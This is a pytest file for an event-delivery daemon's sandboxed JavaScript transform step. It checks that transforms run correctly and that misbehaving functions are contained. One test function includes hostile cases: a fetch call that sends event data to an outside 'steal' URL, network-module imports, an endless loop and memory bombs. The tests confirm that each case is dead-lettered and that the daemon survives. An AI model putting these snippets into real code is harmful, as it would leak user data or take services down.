"""The transform step (crossdock.delivery.transform) in the real engine: an operator's
transformEvent between the outbox lease and the plugin, against a loopback destination.

Every failure a function can have dead-letters its own message with the error, and the
daemon goes on delivering the next one: a throw, an endless loop, a huge allocation (V8's
fatal out of memory ends the function process, not the daemon), a `require` or an import of
a network module, `fetch`."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from echo_destination import TYPES

from crossdock.config import LoadedConfig
from crossdock.daemon import run_daemon
from crossdock.delivery import deliver_once
from crossdock.errors import ConfigError
from crossdock.loader import parse_config
from crossdock.outbox.base import NewRow
from crossdock.outbox.sqlite import SQLiteOutbox

#: one function for every behaviour: what it does is chosen by the event's name
FUNCTION = """
function transformEvent(event, metadata) {
  switch (event.event) {
    case 'throw': throw new Error('no discount code on ' + metadata.messageId);
    case 'loop': while (true) {}
    case 'huge': { const a = []; for (;;) a.push(new Array(1e6).fill(event)); }
    case 'fatal': return new Array(1e9).fill(0);
    case 'require': return require('http').get('http://example.com');
    case 'import': return import('node:net');
    case 'fetch': return fetch('https://example.com/steal?e=' + JSON.stringify(event));
    case 'drop': return null;
    case 'split': return [event, {...event, event: 'split again'}];
    case 'undefined': return;
    case 'number': return 42;
  }
  event.properties.currency = shout(event.properties.currency || 'eur');
  event.properties.destination = metadata.destination;
  return event;
}
"""
LIBRARY = "function shout(text) { return text.toUpperCase(); }"


def loaded_with(tmp_path: Path, url: str, transform: dict[str, Any] | None = None,
                function: str = FUNCTION, **functions: Any) -> LoadedConfig:
    (tmp_path / "fn").mkdir(exist_ok=True)
    (tmp_path / "fn" / "tidy.js").write_text(function)
    (tmp_path / "fn" / "shout.js").write_text(LIBRARY)
    raw = {
        "outbox": {"url": f"sqlite:///{tmp_path / 'crossdock.db'}"},
        "functions": {"libraries": {"shout": {"file": "fn/shout.js"}}, "timeout": "2s",
                      "memory_mb": 16, **functions},
        "destinations": {"echo": {
            "plugin": "echo", "settings": {"url": url},
            "transform": transform or {"file": "fn/tidy.js", "libraries": ["shout"]},
            "delivery": {"allow_private_network": True, "batch_size": 10}}},
    }
    return parse_config(raw, base_dir=tmp_path, env={}, types=TYPES)


def event(message_id: str, name: str) -> NewRow:
    return NewRow("echo", message_id, {"type": "track", "messageId": message_id,
                                       "event": name, "properties": {}})


async def test_events_are_changed_dropped_and_split(
    echo: Any, outbox: SQLiteOutbox, tmp_path: Path, clock: Any,
) -> None:
    loaded = loaded_with(tmp_path, echo.url)
    outbox.enqueue([event("a", "Order Completed"), event("b", "drop"), event("c", "split")],
                   now=clock.now)
    report = await deliver_once(loaded, outbox, clock=clock)

    sent = {entry["id"]: entry["payload"] for batch in echo.fake.batches for entry in batch}
    assert sent["a"]["properties"] == {"currency": "EUR", "destination": "echo"}
    assert "b" not in sent
    # The list's second event gets an id of its own; the row is delivered once both are.
    assert sent["c"]["event"] == "split" and sent["c:1"]["event"] == "split again"
    assert sorted(sent) == ["a", "c", "c:1"]
    counts = outbox.counts()["echo"]
    assert (counts.delivered, counts.dead) == (3, 0)
    r = report.destinations["echo"]
    assert (r.delivered, r.dead) == (2, 0)
    assert r.dropped == {"dropped by transform": 1}


async def test_a_list_whose_second_event_fails_dead_letters_the_row(
    echo: Any, outbox: SQLiteOutbox, tmp_path: Path, clock: Any,
) -> None:
    loaded = loaded_with(tmp_path, echo.url)
    # the echo plugin refuses a payload with "reject": the split's copy carries one
    outbox.enqueue([NewRow("echo", "s", {"type": "track", "messageId": "s", "event": "split",
                                         "properties": {}})], now=clock.now)
    loaded = loaded_with(tmp_path, echo.url, {"code": """
        function transformEvent(e) { return [e, {...e, reject: 'no second copy'}]; }"""})
    await deliver_once(loaded, outbox, clock=clock)
    row = outbox.row("echo", "s")
    assert row is not None
    assert (row["state"], row["last_error"]) == ("dead", "rejected: no second copy")


@pytest.mark.parametrize(("name", "error"), [
    ("throw", "transformEvent failed: fn/tidy.js:4: Error: no discount code on m-throw"),
    ("loop", "transformEvent failed: ran longer than its time limit"),
    ("huge", "transformEvent failed: ran out of memory"),
    ("require", "ReferenceError: require is not defined"),
    ("fetch", "ReferenceError: fetch is not defined"),
    ("import", "transformEvent returned a Promise: functions run synchronously"),
    ("undefined", "transformEvent returned nothing (undefined)"),
    ("number", "transformEvent returned: a number, not an event"),
])
async def test_a_failing_function_dead_letters_its_message_and_the_next_is_delivered(
    echo: Any, outbox: SQLiteOutbox, tmp_path: Path, clock: Any, name: str, error: str,
) -> None:
    loaded = loaded_with(tmp_path, echo.url)
    outbox.enqueue([event(f"m-{name}", name), event("next", "Order Completed")], now=clock.now)
    report = await deliver_once(loaded, outbox, clock=clock)
    row = outbox.row("echo", f"m-{name}")
    assert row is not None
    assert row["state"] == "dead" and row["attempts"] == 1
    assert row["last_error"].startswith("transform fn/tidy.js: ")
    assert error in row["last_error"]
    assert echo.fake.ids == ["next"]
    assert report.destinations["echo"].dead == 1


async def test_the_daemon_survives_a_function_that_kills_its_v8_process(
    echo: Any, tmp_path: Path,
) -> None:
    """new Array(1e9).fill(0) is a fatal out of memory in V8 (it aborts the process it runs
    in, past any memory check): in the daemon's own process that would end the daemon."""
    loaded = loaded_with(tmp_path, echo.url)
    stop = asyncio.Event()
    daemon = asyncio.create_task(run_daemon(loaded, stop_event=stop, poll_interval=0.05))
    box = SQLiteOutbox(tmp_path / "crossdock.db")
    try:
        # in one batch with a good message: the batch runs in one V8 call, then each
        # message on its own in a new process, so only the one at fault is dead
        box.enqueue([event("fatal", "fatal"), event("mate", "Order Completed")])
        for _ in range(600):
            row = box.row("echo", "fatal")
            if row is not None and row["state"] == "dead":
                break
            await asyncio.sleep(0.05)
        box.enqueue([event("after", "Order Completed")])
        for _ in range(200):
            if len(echo.fake.ids) == 2:
                break
            await asyncio.sleep(0.05)
        assert not daemon.done()
    finally:
        stop.set()
        await asyncio.wait_for(daemon, 30)
    row = box.row("echo", "fatal")
    assert row is not None and row["state"] == "dead"
    assert "the function process was ended" in row["last_error"]
    assert echo.fake.ids == ["mate", "after"]
    box.close()


def test_config_names_what_is_wrong_with_a_function(tmp_path: Path) -> None:
    (tmp_path / "bad.js").write_text("function transformEvent(e) { return e;")
    raw = {"functions": {"libraries": {"shout": {"code": LIBRARY}}},
           "destinations": {
               "a": {"plugin": "echo", "settings": {"url": "https://example.com"},
                     "transform": {"file": "bad.js"}},
               "b": {"plugin": "echo", "settings": {"url": "https://example.com"},
                     "transform": {"code": "function transformEvent(e) { return e }",
                                   "libraries": ["shout", "hashing"]}},
               "c": {"plugin": "echo", "settings": {"url": "https://example.com"},
                     "transform": {"file": "missing.js"}},
               "d": {"plugin": "echo", "settings": {"url": "https://example.com"},
                     "transform": {"file": "bad.js", "code": "x"}}}}
    with pytest.raises(ConfigError) as caught:
        parse_config(raw, base_dir=tmp_path, env={}, types=TYPES)
    problems = caught.value.problems
    assert any(p.startswith("destinations.a.transform: bad.js:")
               and "SyntaxError" in p for p in problems), problems
    assert ("destinations.b.transform.libraries.1: unknown library 'hashing' "
            "(functions.libraries has: shout)") in problems
    assert any(p.startswith("destinations.c.transform.file: cannot read ") for p in problems)
    assert any(p.startswith("destinations.d.transform: ") and "one of the two" in p
               for p in problems), problems


async def test_a_reload_runs_the_edited_function(echo: Any, tmp_path: Path) -> None:
    """The config names the function by the same path before and after: the reload (SIGHUP)
    still sees that its code changed and restarts the destination's worker on the new code."""
    from crossdock.delivery import DeliveryEngine

    first = loaded_with(tmp_path, echo.url)
    box = SQLiteOutbox(tmp_path / "crossdock.db")
    engine = DeliveryEngine(first, box, poll_interval=0.05)
    await engine.start()
    try:
        reloaded = loaded_with(tmp_path, echo.url, function=(
            "function transformEvent(e) { e.properties.version = 2; return e; }"))
        assert (await engine.reconfigure(reloaded))["changed"] == ["echo"]
        box.enqueue([event("v2", "Order Completed")])
        for _ in range(200):
            if echo.fake.ids:
                break
            await asyncio.sleep(0.05)
    finally:
        await engine.stop()
    assert echo.fake.batches[0][0]["payload"]["properties"] == {"version": 2}
    box.close()



def test_one_function_process_holds_many_functions() -> None:
    """Every function of a daemon is an isolate in one host process: a process-wide memory
    limit sized for one isolate ended the host at the sixth function of 16 MB (each isolate's
    thread and structures count too), and every load after it failed."""
    from crossdock.functions.runtime import FunctionCode, FunctionRunner, Limits

    runner = FunctionRunner(Limits(2, 16))
    try:
        loaded = [runner.load(FunctionCode(f"f{n}.js", "function transformEvent(e) { "
                                                       f"return {{...e, n: {n}}}; }}"),
                              ("transformEvent",)) for n in range(30)]
        results = [fn.call("transformEvent", [[{"type": "track"}, {}]])[0] for fn in loaded]
        assert [r.value["n"] for r in results] == list(range(30))
        # and memory past the heap is still refused, as a RangeError in the function
        big = runner.load(FunctionCode("big.js", "function transformEvent(e) { "
                                       "const b = new Uint8Array(3 << 30); return e; }"),
                          ("transformEvent",))
        [result] = big.call("transformEvent", [[{}, {}]])
        assert result.error is not None and "RangeError" in result.error
    finally:
        runner.close()
